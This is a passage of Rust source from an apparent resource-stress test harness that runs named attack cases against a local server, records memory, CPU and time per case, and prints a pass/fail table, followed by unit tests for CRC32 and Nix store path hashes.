    if args.attacks.is_empty() {
        return ExitCode::SUCCESS;
    }
    let ctx = match Ctx::new(&args) {
        Ok(ctx) => ctx,
        Err(e) => {
            eprintln!("garret-hostile: {e}");
            return ExitCode::from(64);
        }
    };
    let probe = Probe(args.pid);
    let mut worst = 0u8;
    for name in &args.attacks {
        let Some((_, rss_before)) = probe.memory_kib() else {
            println!("| {name} | server not running | | | | | | DIED |");
            return ExitCode::from(2);
        };
        let reset = probe.reset_peak();
        let cpu_before = probe.cpu_secs().unwrap_or(0.0);
        let sampler = Sampler::start(probe);
        let started = Instant::now();
        let answer = tokio::time::timeout(ATTACK_LIMIT, run_attack(&ctx, name))
            .await
            .unwrap_or_else(|_| Answer {
                text: format!("harness gave up after {} s", ATTACK_LIMIT.as_secs()),
                required_ok: false,
            });
        let wall = started.elapsed().as_secs_f64();
        // A crash takes a moment to show in /proc.
        tokio::time::sleep(Duration::from_millis(500)).await;
        let after = probe.memory_kib();
        let cpu = probe.cpu_secs().map(|c| c - cpu_before);
        let peak_kib = sampler.finish().max(after.map_or(0, |(hwm, _)| hwm));
        let over_bar = peak_kib.div_ceil(1024) > args.bar_mib;
        let (verdict, code) = match after {
            None => ("DIED", 2),
            Some(_) if over_bar => ("FAIL", 1),
            Some(_) if !answer.required_ok => ("FAIL (answer)", 1),
            Some(_) => ("pass", 0),
        };
        worst = worst.max(code);
        let mib = |kib: u64| format!("{} MiB", kib.div_ceil(1024));
        println!(
            "| {name} | {} | {} | {}{}{} | {} | {} | {wall:.1} s | {verdict} |",
            answer.text.replace('|', "/"),
            mib(rss_before),
            if after.is_none() { "≥ " } else { "" },
            mib(peak_kib),
            if reset { "" } else { " (since start)" },
            after.map_or("—".into(), |(_, rss)| mib(rss)),
            cpu.map_or("—".into(), |c| format!("{c:.1} s")),
        );
        if after.is_none() {
            break;
        }
    }
    ExitCode::from(worst)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn crc32_matches_the_standard_check_value() {
        assert_eq!(crc32(b"123456789"), 0xcbf4_3926);
    }

    #[test]
    fn store_path_hashes_are_valid() {
        for n in [0, 1, 12345, u64::MAX] {
            let text = store_path_hash(n);
            assert!(text.parse::<garret_nix::StorePathHash>().is_ok(), "{text}");
        }
    }
}
